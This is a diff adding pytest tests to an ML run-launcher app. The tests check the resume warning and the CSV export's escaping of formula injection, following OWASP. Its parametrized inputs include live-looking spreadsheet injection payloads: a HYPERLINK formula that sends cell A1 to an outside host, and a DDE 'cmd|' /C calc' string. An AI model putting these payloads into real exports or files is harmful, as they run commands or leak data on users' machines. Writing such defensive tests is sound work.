@@ -18,8 +18,8 @@ from bigmodels.base.formatting import format_duration
 from bigmodels.runs.sources import list_sources
 from bigmodels.models.registry import create_model
 from bigmodels.figures.runs import (
-    accuracy_axis, accuracy_figure, comparison_rows, confusion_figure, differing_settings, epochs_csv, loss_figure,
-    parallel_coordinates, per_class_figure, scientific, smooth, step_xs, steps_csv, system_figure, thin,
+    accuracy_axis, accuracy_figure, comparison_rows, confusion_figure, csv_cell, differing_settings, epochs_csv,
+    loss_figure, parallel_coordinates, per_class_figure, scientific, smooth, step_xs, steps_csv, system_figure, thin,
 )
 from bigmodels.models.checkpoints import checkpoint_digest
 from bigmodels.runs.evaluations import cached_evaluation, evaluate_checkpoint
@@ -364,6 +364,43 @@ def test_the_page_survives_an_unreadable_store_and_checkpoint(tmp_path, monkeypa
     assert any(s.value == "New run" for s in at.subheader)  # the rest of the page is there
 
 
+@pytest.mark.parametrize("lang", ["en", "zh"])
+def test_the_page_says_whether_resume_continues_or_starts_over(tmp_path, monkeypatch, lang):
+    """An interrupted run that never wrote a checkpoint restarts at step 0 on Resume;
+    the page said it would continue from its last checkpoint."""
+    from streamlit.testing.v1 import AppTest
+
+    from bigmodels.base.i18n import translate
+    from tests.conftest import REPO
+
+    store = RunStore(tmp_path / "home")
+    fresh = store.claim(submit(store, cfg()).run.id, "w", 1)
+    store.set_provenance(fresh.id, "cpu", "cpu", "data", {}, None, str(store.checkpoint_path(fresh.id)))
+    store.interrupt([fresh.id], "the worker was stopped")
+    monkeypatch.setenv("BIGMODELS_HOME", str(store.home))
+    monkeypatch.delenv("BIGMODELS_OPERATOR_TOKEN", raising=False)
+
+    def warnings():
+        at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60)
+        at.session_state["lang"] = lang
+        at.run()
+        assert not at.exception
+        return " ".join(w.value for w in at.warning)
+
+    shown = warnings()
+    assert translate("launcher.live.resume_restart", lang) in shown
+    assert translate("launcher.live.resume_from", lang, epoch=0) not in shown
+    assert store.resume(fresh.id).resume is False  # and that is what Resume does
+
+    write_checkpoint(store, fresh.id)  # now it has one
+    store.claim(fresh.id, "w", 1)
+    store.interrupt([fresh.id], "the worker was stopped")
+    shown = warnings()
+    assert translate("launcher.live.resume_from", lang, epoch=0) in shown
+    assert translate("launcher.live.resume_restart", lang) not in shown
+    assert store.resume(fresh.id).resume is True
+
+
 # ------------------------------------------------------------ run charts
 def test_smoothing_is_debiased_and_keeps_gaps():
     assert smooth([1.0, 2.0, 3.0], 0.0) == [1.0, 2.0, 3.0]
@@ -402,6 +439,45 @@ def test_figures_tables_and_csv(store):
     assert table[0]["batch_size"] == "64"
     steps = list(csv.DictReader(io.StringIO(steps_csv([(a, store.steps(a.id))]))))
     assert len(steps) == 64 and steps[0]["step"] == "1"
+
+
+@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://x.test/?\"&A1,\"go\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
+                                  "@SUM(1,2)", "\uff1d1+1"])
+def test_csv_exports_escape_formulas_as_owasp_says(store, name):
+    run = finish_run(store, submit(store, cfg()).run.id)
+    run = store.set_info(run.id, name=name)
+    rows = list(csv.reader(io.StringIO(epochs_csv([(run, store.epochs(run.id))]))))
+    assert rows[1][1] == "'" + name  # a leading quote: the spreadsheet shows text, runs nothing
+    assert all(not cell.startswith(("=", "+", "-", "@", "\uff1d")) for row in rows for cell in row
+               if not cell.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit())  # negative numbers stay
+    assert rows[1][0] == run.id and float(rows[1][-5]) == 0.9  # the other cells as they were
+
+
+def test_the_runs_table_download_reads_formulas_as_text(store, monkeypatch):
+    """Streamlit's dataframe toolbar downloads a table as CSV escaping nothing: the runs
+    table and the comparison give a formula-like name an invisible first character."""
+    from streamlit.testing.v1 import AppTest
+
+    from bigmodels.base.formatting import WORD_JOINER
+    from tests.conftest import REPO
+
+    run = store.set_info(finish_run(store, submit(store, cfg()).run.id).id, name="=HYPERLINK(\"http://x.test\")",
+                         tags=["@evil"])
+    assert comparison_rows([run])[0]["name"] == WORD_JOINER + run.title
+    monkeypatch.setenv("BIGMODELS_HOME", str(store.home))
+    monkeypatch.delenv("BIGMODELS_OPERATOR_TOKEN", raising=False)
+    at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60).run()
+    assert not at.exception
+    table = at.dataframe[0].value
+    assert list(table["Name"]) == [WORD_JOINER + run.title] and list(table["Tags"]) == [WORD_JOINER + "@evil"]
+
+
+def test_csv_cells_escape_tabs_and_carriage_returns_but_not_numbers():
+    assert [csv_cell(v) for v in ("\t=1", "\r=1", "a=1", -0.5, -3, None, "")] == \
+        ["'\t=1", "'\r=1", "a=1", -0.5, -3, None, ""]
+    rows = list(csv.reader(io.StringIO(steps_csv([(type("R", (), {"id": "=x"})(),
+                                                   [{"step": 1, "epoch": 1, "loss": -1.5, "lr": 1e-3, "t": 0.0}])]))))
+    assert rows[1][:4] == ["'=x", "1", "1", "-1.5"]
 
 
 # ---------------------------------------------------------- launch form
